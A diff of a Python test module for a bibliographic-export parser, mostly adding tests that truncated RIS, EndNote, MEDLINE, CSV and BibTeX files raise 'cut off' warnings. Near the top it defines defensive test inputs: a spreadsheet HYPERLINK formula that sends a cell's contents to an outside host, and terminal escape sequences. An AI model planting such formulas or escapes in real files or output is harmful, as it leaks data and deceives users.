@@ -14,9 +14,11 @@ from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from screenrev.console import clean
+from screenrev.errors import InputError
+from screenrev.records.parse import read_export
 from screenrev.review.spreadsheet import neutralise, restore
 
-from .conftest import invoke
+from .conftest import DATA, invoke
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 ESCAPES = "\x1b]0;owned\x07\x1b[2J"
@@ -346,9 +348,6 @@ def test_a_large_protocol_of_plain_terms_is_read(runner: CliRunner, tmp_path: Pa
 
 
 def test_a_ris_file_whose_only_record_has_no_er_is_a_risk(tmp_path: Path) -> None:
-    from screenrev.errors import InputError
-    from screenrev.records.parse import read_export
-
     data = b"TY  - JOUR\nTI  - A title cut off in the mid"
     with pytest.raises(InputError, match="the file ends inside this record"):
         read_export("cut.ris", data)
@@ -356,15 +355,82 @@ def test_a_ris_file_whose_only_record_has_no_er_is_a_risk(tmp_path: Path) -> Non
 
 
 def test_an_endnote_export_cut_in_its_last_record_says_so() -> None:
-    from screenrev.records.parse import read_export
-
-    from .conftest import DATA
-
     data = (DATA / "endnote_tagged" / "ais_enl.txt").read_bytes()
     assert not any("cut off" in warning for warning in read_export("whole.txt", data).warnings)
     cut = data[: data.index(b"%A", data.rindex(b"%0 ")) + 6]  # the last record cut in its first author
     parsed = read_export("cut.txt", cut)
-    assert any("the last record lacks" in warning and "cut off" in warning for warning in parsed.warnings)
+    assert any("the file ends in the middle of a line" in warning and "cut off" in warning
+               for warning in parsed.warnings)
+
+
+def _cut_off(warnings: list[str]) -> bool:
+    return any("cut off" in warning for warning in warnings)
+
+
+@pytest.mark.parametrize(("fixture", "cut_after"), [
+    ("endnote_tagged/refer.bibIX.ref", b"%X Abstr"),
+    ("ovid/OvidImporterTest5.txt", b"  Lorem ips"),
+    ("medline/eric_nbib.nbib", b"AB  - Abstr"),
+])
+def test_an_export_cut_mid_line_in_its_first_record_says_so(fixture: str, cut_after: bytes) -> None:
+    data = (DATA / fixture).read_bytes()
+    assert not _cut_off(read_export("whole", data).warnings)
+    parsed = read_export("cut", data[: data.index(cut_after) + len(cut_after)])
+    assert len(parsed.records) == 1 and _cut_off(parsed.warnings)
+
+
+def test_an_export_cut_between_two_lines_lacks_the_line_every_other_record_ends_with() -> None:
+    data = (DATA / "endnote_tagged" / "refer.bibIX.ref").read_bytes()  # every record ends with %D
+    cut = data[: data.rindex(b"\n%D ") + 1]
+    assert any("no %D line" in warning and "cut off" in warning for warning in read_export("cut", cut).warnings)
+
+
+def test_an_eric_record_cut_before_its_publication_types_says_so() -> None:
+    data = (DATA / "medline" / "eric_nbib.nbib").read_bytes()
+    assert _cut_off(read_export("cut", data[: data.index(b"\nPT  - ") + 1]).warnings)
+
+
+def test_a_crlf_export_cut_between_cr_and_lf_says_so() -> None:
+    data = (DATA / "endnote_tagged" / "ais_enl.txt").read_bytes().replace(b"\n", b"\r\n")
+    assert not _cut_off(read_export("whole", data).warnings)
+    cut = data[: data.index(b"\r\n", data.rindex(b"%A ")) + 1]
+    assert _cut_off(read_export("cut", cut).warnings)
+
+
+def test_a_continuation_line_cut_in_its_indentation_says_so() -> None:
+    text = "PMID- 1\nTI  - A title\nAB  - An abstract that goes on\n      over a second line\nAU  - Smith J\n"
+    assert not _cut_off(read_export("whole", text.encode()).warnings)
+    assert _cut_off(read_export("cut", text[: text.index("      over") + 3].encode()).warnings)
+
+
+def test_a_pubmed_export_without_its_final_line_break_is_not_taken_for_a_cut_one() -> None:
+    data = (DATA / "medline" / "pubmed-balloongui-set-first3.nbib").read_bytes()  # ends with SO, whole
+    assert read_export("whole", data.rstrip()).warnings == []
+
+
+def test_a_ris_export_without_er_lines_cut_in_its_last_record_says_so() -> None:
+    records = [f"TY  - JOUR\nTI  - Title {n}\nAU  - Smith, J\nAB  - An abstract of record {n}.\n" for n in (1, 2, 3)]
+    text = "\n".join(records)
+    assert not _cut_off(read_export("whole.ris", text.encode()).warnings)
+    assert _cut_off(read_export("cut.ris", text[: text.rindex("abstract")].encode()).warnings)
+
+
+def test_a_csv_export_cut_right_after_a_delimiter_says_so() -> None:
+    data = (DATA / "table" / "pubmed_csv.csv").read_bytes()
+    assert read_export("whole.csv", data).warnings == []
+    assert _cut_off(read_export("cut.csv", data[: data.rindex(b",") + 1]).warnings)
+
+
+def test_a_bibtex_entry_read_line_by_line_and_cut_before_its_closing_brace_is_refused() -> None:
+    data = (DATA / "bibtex" / "ebsco_bib.bib").read_bytes()  # its last entry's braces do not balance
+    assert len(read_export("whole.bib", data).records) == 2
+    with pytest.raises(InputError, match="the file ends inside this @article entry"):
+        read_export("cut.bib", data[: data.rindex(b"}")])
+
+
+def test_a_last_record_with_nothing_after_its_header_says_so() -> None:
+    text = "<1. >\nTI  - A title\nSO  - A journal\n\n<2. >\n"
+    assert _cut_off(read_export("cut.txt", text.encode()).warnings)
 
 
 # --- 8. smaller points ----------------------------------------------------------------------
